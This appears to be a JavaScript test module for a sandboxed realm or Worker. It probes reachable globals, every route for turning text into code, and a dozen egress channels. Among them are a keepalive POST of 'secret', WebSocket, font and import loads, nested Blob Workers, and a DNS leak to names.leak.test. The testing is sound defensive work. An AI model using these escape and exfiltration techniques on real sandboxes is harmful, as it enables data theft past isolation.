// What a realm of the program can reach: in its logic, and in a worker of its own.
const { stringify } = JSON;

/** What came of an attempt, as text. */
const attempt = (run) => {
  try {
    return String(run());
  } catch (error) {
    return 'threw ' + error.name;
  }
};

const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Abilities of a Worker that a program must not have. */
const ABILITIES =
  'fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport FontFace importScripts Worker SharedWorker ' +
  'BroadcastChannel MessageChannel MessagePort indexedDB caches navigator location postMessage close self performance ' +
  'crypto OffscreenCanvas WebAssembly RTCPeerConnection RTCDataChannel Notification FileReader Blob URL Request Response ' +
  'addEventListener dispatchEvent onmessage createImageBitmap structuredClone reportError requestAnimationFrame ' +
  'scheduler trustedTypes origin isSecureContext name __atrium';

const acts = {
  /** Case 3. */
  globals() {
    const found = ABILITIES.split(' ').filter((name) => attempt(() => typeof (0, globalThis)[name]) !== 'undefined');
    const names = new Set();
    for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
      for (const name of Object.getOwnPropertyNames(at)) names.add(name);
    return { found, all: [...names].filter((name) => !/^[A-Z]/.test(name)).sort().slice(0, 60) };
  },

  /** Case 2: text into code, in every way the language and the platform know. */
  async codegen() {
    const AsyncFunction = (async () => {}).constructor;
    const GeneratorFunction = function* () {}.constructor;
    const AsyncGenerator = async function* () {}.constructor;
    globalThis.ran = '';
    const said = {
      eval: attempt(() => (0, globalThis.eval)('ran += "eval "')),
      Function: attempt(() => new Function('ran += "Function "')()),
      call: attempt(() => Function('a', 'ran += "call "')()),
      constructor: attempt(() => (() => {}).constructor('ran += "constructor "')()),
      async: attempt(() => AsyncFunction('ran += "async "')()),
      generator: attempt(() => GeneratorFunction('ran += "generator "')().next()),
      asyncGenerator: attempt(() => AsyncGenerator('ran += "asyncGenerator "')().next()),
      reflect: attempt(() => Reflect.construct(Function, ['ran += "reflect "'])()),
      wasm: attempt(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      blob: attempt(() => URL.createObjectURL(new Blob(['ran += "blob "']))),
      timer: attempt(() => setTimeout('ran += "timer "', 0)),
    };
    await later(50);
    return { ran: globalThis.ran, said };
  },

  /** Case 1: where the realm still has the means, the policy has to hold. */
  async egress({ to, names }) {
    const wait = (promise) =>
      Promise.race([promise, later(1500).then(() => 'nothing')]).then(String, (error) => 'threw ' + error.name);
    const socket = (make) =>
      wait(
        new Promise((resolve, reject) => {
          const it = make();
          it.onopen = () => resolve('opened');
          it.onerror = () => reject(new Error());
        }),
      );
    const ways = {
      fetch: () => wait(fetch(to + '/w/fetch').then((it) => it.status)),
      post: () => wait(fetch(to + '/w/post', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }).then((it) => it.type)),
      xhr: () =>
        wait(
          new Promise((resolve, reject) => {
            const it = new XMLHttpRequest();
            it.onload = () => resolve('loaded');
            it.onerror = () => reject(new Error());
            it.open('GET', to + '/w/xhr');
            it.send();
          }),
        ),
      xhrSync: () => {
        const it = new XMLHttpRequest();
        it.open('GET', to + '/w/xhr-sync', false);
        it.send();
        return it.status;
      },
      socket: () => socket(() => new WebSocket(to.replace('http', 'ws') + '/w/socket')),
      stream: () => wait(new WebSocketStream(to.replace('http', 'ws') + '/w/stream').opened),
      events: () => socket(() => new EventSource(to + '/w/events')),
      transport: () => wait(new WebTransport('https://127.0.0.1:1/w').ready),
      font: () => wait(new FontFace('f', 'url(' + to + '/w/font)').load()),
      scripts: () => importScripts(to + '/w/scripts'),
      dynamic: () => wait(import(to + '/w/import')),
      worker: () => socket(() => new Worker(to + '/w/worker')),
      nested: () => {
        const text = 'fetch(' + stringify(to + '/w/nested') + ')';
        return new Worker(URL.createObjectURL(new Blob([text])));
      },
      names: () => wait(fetch('http://' + names + '.leak.test/')),
    };
    const said = {};
    for (const name of Object.keys(ways)) {
      try {
        said[name] = String(await ways[name]());
      } catch (error) {
        said[name] = 'threw ' + error.name;
      }
    }
    return said;
  },
};

module.exports = { attempt, later, acts };
